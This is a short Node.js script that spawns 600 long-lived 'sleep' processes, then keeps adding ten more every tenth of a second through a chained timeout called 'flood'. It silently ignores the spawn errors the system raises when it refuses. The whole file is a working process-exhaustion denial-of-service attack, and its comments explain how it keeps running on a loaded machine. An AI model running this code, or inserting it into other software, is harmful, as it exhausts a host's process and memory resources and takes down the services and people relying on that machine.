// Ten processes more every tenth of a second, each waiting for good; what the system refuses is refused. Starting one blocks the event
// loop: a chained timeout leaves the server time to serve, where an interval would let the ticks pile up on a busy machine.
import { spawn } from "node:child_process";

const start = (count) => {
  for (let i = 0; i < count; i++) spawn("sleep", ["600"], { stdio: "ignore" }).on("error", () => undefined);
};

function flood() {
  start(10);
  setTimeout(flood, 100);
}

start(600);
flood();
